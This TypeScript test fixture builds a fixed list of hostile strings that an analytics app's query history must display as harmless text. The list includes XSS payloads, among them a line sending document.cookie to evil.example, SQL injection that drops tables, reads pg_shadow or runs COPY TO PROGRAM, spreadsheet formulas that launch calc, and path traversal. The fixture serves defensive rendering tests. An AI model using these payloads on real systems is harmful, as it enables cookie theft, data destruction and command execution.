// Hostile strings planted in the generated history (analysts' ad hoc SQL and query_group labels, COPY
// rejected rows): the app must show all of them as inert text, never as markup, script or a broken
// layout. Built deterministically from small lists (no randomness), so the corpus is identical on
// every run and every machine. PostgreSQL text cannot hold NUL, so U+0000 is never produced.

export interface HostileString {
  /** Stable name, e.g. 'script-03' or 'ctrl-1b', for test output. */
  id: string;
  category: HostileCategory;
  value: string;
}

export type HostileCategory =
  | 'script'
  | 'event-handler'
  | 'javascript-url'
  | 'svg'
  | 'control-char'
  | 'long-line'
  | 'bidi'
  | 'emoji'
  | 'sql-injection'
  | 'markup-misc';

const SCRIPT_TAGS = [
  '<script>alert(1)</script>',
  '<script>alert(document.cookie)</script>',
  '<script src="https://evil.example/x.js"></script>',
  '</script><script>alert("breakout")</script>',
  '<ScRiPt>alert(String.fromCharCode(88,83,83))</sCrIpT>',
  '<script>fetch("https://evil.example/?c="+document.cookie)</script>',
  '<script type="module">import("https://evil.example/m.js")</script>',
  '<<script>alert(2);//<</script>',
  '<script\n>alert(3)</script\n>',
  '"><script>alert(4)</script>',
  "'><script>alert(5)</script>",
  '<scr<script>ipt>alert(6)</scr</script>ipt>',
  '<noscript><p title="</noscript><img src=x onerror=alert(7)>">',
  '<template><script>alert(8)</script></template>',
];

const EVENT_HANDLERS = [
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="alert(\'img\')">',
  '<body onload=alert(1)>',
  '" onmouseover="alert(1)',
  "' onfocus='alert(1)' autofocus='",
  '<div onclick="alert(1)">click me</div>',
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror="alert(1)"></video>',
  '<iframe srcdoc="<img src=x onerror=alert(1)>"></iframe>',
  '<marquee onstart=alert(1)>',
  '<a href="#" onmouseenter=alert(1)>hover</a>',
  '<style onload=alert(1)></style>',
  '<select autofocus onfocus=alert(1)>',
];

const JAVASCRIPT_URLS = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  'java\tscript:alert(1)',
  ' javascript:alert(1)',
  'javascript&colon;alert(1)',
  '<a href="javascript:alert(1)">open report</a>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'vbscript:msgbox(1)',
  '<form action="javascript:alert(1)"><button>go</button></form>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '[click](javascript:alert(1))',
];

const SVG_PAYLOADS = [
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
  '<svg><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>',
  '<svg><set attributeName="onmouseover" to="alert(1)"/></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<svg/onload=alert`1`>',
  '<svg><style>@import "https://evil.example/x.css";</style></svg>',
];

const BIDI = [
  'report\u202Egnp.exe',
  '\u202Eevil\u202C',
  'name\u200Fwith\u200Frlm',
  '\u202Bembedded rtl\u202C',
  '\u2066isolate\u2069 \u2067rtl isolate\u2069 \u2068first strong\u2069',
  'שלום world مرحبا',
  'ltr \u200E mark',
  'admin\u202E\u2066// check later\u2069\u2066',
  '\u061C arabic letter mark',
  'abc\u202Dforced ltr\u202C',
];

const EMOJI = [
  '🎵🎶🎧',
  '👨‍👩‍👧‍👦 family zwj',
  '🇸🇪🇳🇴🇩🇰 flags',
  '👍🏽 skin tone',
  '𝕳𝖊𝖆𝖛𝖞 𝖒𝖊𝖙𝖆𝖑',
  'Z̴̡̪a̶̰͝l̷̢̛g̸͔̈o̵̧͝ text',
  '🏳️‍🌈',
  '💩'.repeat(40),
  'naïve café résumé',
  '中文歌曲名 日本語の曲 한국어 노래',
  '\uFEFFbom at start',
  'zero\u200Bwidth\u200Cjoin\u200Dchars',
  '🎤 ' + 'ॐ'.repeat(10),
  '❤️‍🔥 heart on fire',
];

const SQL_INJECTION = [
  "'; DROP TABLE stl_query; --",
  "' OR '1'='1",
  "' OR 1=1 --",
  '1; SELECT pg_sleep(30); --',
  "'); CANCEL 1073741825; --",
  '$$; DROP SCHEMA rs_system CASCADE; $$',
  "' UNION SELECT usename, passwd FROM pg_shadow --",
  '/* */ SELECT * FROM pg_catalog.pg_authid /* */',
  "admin'--",
  "\\'; TRUNCATE stl_load_errors; --",
  "'; SET query_group TO 'superuser'; --",
  "E'\\x27 OR 1=1'",
  "'; COPY (SELECT 1) TO PROGRAM 'id'; --",
  'Robert"); DROP TABLE students;--',
  "%'; SELECT pg_terminate_backend(pid) FROM pg_stat_activity; --",
  '1 AND (SELECT COUNT(*) FROM generate_series(1,10000000)) > 0',
];

const MARKUP_MISC = [
  '{{constructor.constructor("alert(1)")()}}',
  '${alert(1)}',
  '#{7*7}',
  '<%= 7*7 %>',
  '=HYPERLINK("https://evil.example","click")',
  "=cmd|' /C calc'!A0",
  "+SUM(1+1)*cmd|' /C calc'!A0",
  '@SUM(1+1)',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#x3C;script&#x3E;alert(1)&#x3C;/script&#x3E;',
  '＜ｓｃｒｉｐｔ＞alert(1)＜／ｓｃｒｉｐｔ＞',
  '\\n is not a newline, \\t is not a tab',
  'back\\slash\\\\double',
  '"double" \'single\' `back`',
  'line one\r\nline two\r\n',
  'carriage\ronly',
  '%s%s%s%n%x%d',
  '../../../../etc/passwd',
  'C:\\Windows\\System32\\cmd.exe',
  '<!-- comment --><![CDATA[<script>alert(1)</script>]]>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<b><i><u>unclosed',
  '</div></td></tr></table></body></html>',
  '__proto__',
  'constructor',
  'toString',
  '{"__proto__":{"polluted":true}}',
  'null',
  'undefined',
  'NaN',
  '-0',
  '1e309',
  ' ',
  '   leading and trailing spaces   ',
  '\t\ttabs\t\t',
  'DROP',
];

/** Every control character except NUL (U+0001..U+001F, U+007F, C1 NEL, line/paragraph separators). */
function controlCharacters(): HostileString[] {
  const codes: number[] = [];
  for (let c = 0x01; c <= 0x1f; c++) codes.push(c);
  codes.push(0x7f, 0x85, 0x2028, 0x2029);
  return codes.map((code) => ({
    id: `ctrl-${code.toString(16).padStart(2, '0')}`,
    category: 'control-char' as const,
    value: `before${String.fromCharCode(code)}after`,
  }));
}

/** 4,000-character single lines (STL_QUERY.querytxt is 4000 wide, raw_line 1024, label 320). */
function longLines(): HostileString[] {
  const fill = (unit: string): string => {
    let text = '';
    while (text.length < 4000) text += unit;
    return text.slice(0, 4000);
  };
  return [
    { id: 'long-a', category: 'long-line', value: fill('A') },
    { id: 'long-script', category: 'long-line', value: fill('<script>alert(1)</script>') },
    { id: 'long-words', category: 'long-line', value: fill('supercalifragilistic ') },
    { id: 'long-nospace', category: 'long-line', value: fill('x_0123456789') },
    { id: 'long-quotes', category: 'long-line', value: fill(`'"\``) },
    { id: 'long-backslash', category: 'long-line', value: fill('\\') },
    { id: 'long-tabs', category: 'long-line', value: fill('col\t') },
  ];
}

function named(category: HostileCategory, prefix: string, values: readonly string[]): HostileString[] {
  return values.map((value, i) => ({ id: `${prefix}-${String(i + 1).padStart(2, '0')}`, category, value }));
}

/** Wrappers that put a payload where templates and attribute values would meet it. */
const CONTEXTS: ReadonlyArray<readonly [string, (payload: string) => string]> = [
  ['attr', (p) => `" title="${p}`],
  ['json', (p) => `{"name":"${p.replace(/"/g, '\\"')}"}`],
  ['csv', (p) => `"${p.replace(/"/g, '""')}",1,2`],
];

function buildCorpus(): HostileString[] {
  const base: HostileString[] = [
    ...named('script', 'script', SCRIPT_TAGS),
    ...named('event-handler', 'event', EVENT_HANDLERS),
    ...named('javascript-url', 'jsurl', JAVASCRIPT_URLS),
    ...named('svg', 'svg', SVG_PAYLOADS),
    ...controlCharacters(),
    ...longLines(),
    ...named('bidi', 'bidi', BIDI),
    ...named('emoji', 'emoji', EMOJI),
    ...named('sql-injection', 'sqli', SQL_INJECTION),
    ...named('markup-misc', 'misc', MARKUP_MISC),
  ];
  // The same script/handler/SVG payloads again inside attribute, JSON and CSV contexts.
  const wrapped: HostileString[] = [];
  for (const item of base) {
    if (item.category !== 'script' && item.category !== 'event-handler' && item.category !== 'svg') continue;
    for (const [name, wrap] of CONTEXTS) {
      wrapped.push({ id: `${item.id}-${name}`, category: item.category, value: wrap(item.value) });
    }
  }
  return [...base, ...wrapped];
}

/** The corpus: ≥ 200 strings, no NUL, stable order and ids. */
export const HOSTILE_STRINGS: readonly HostileString[] = Object.freeze(buildCorpus());
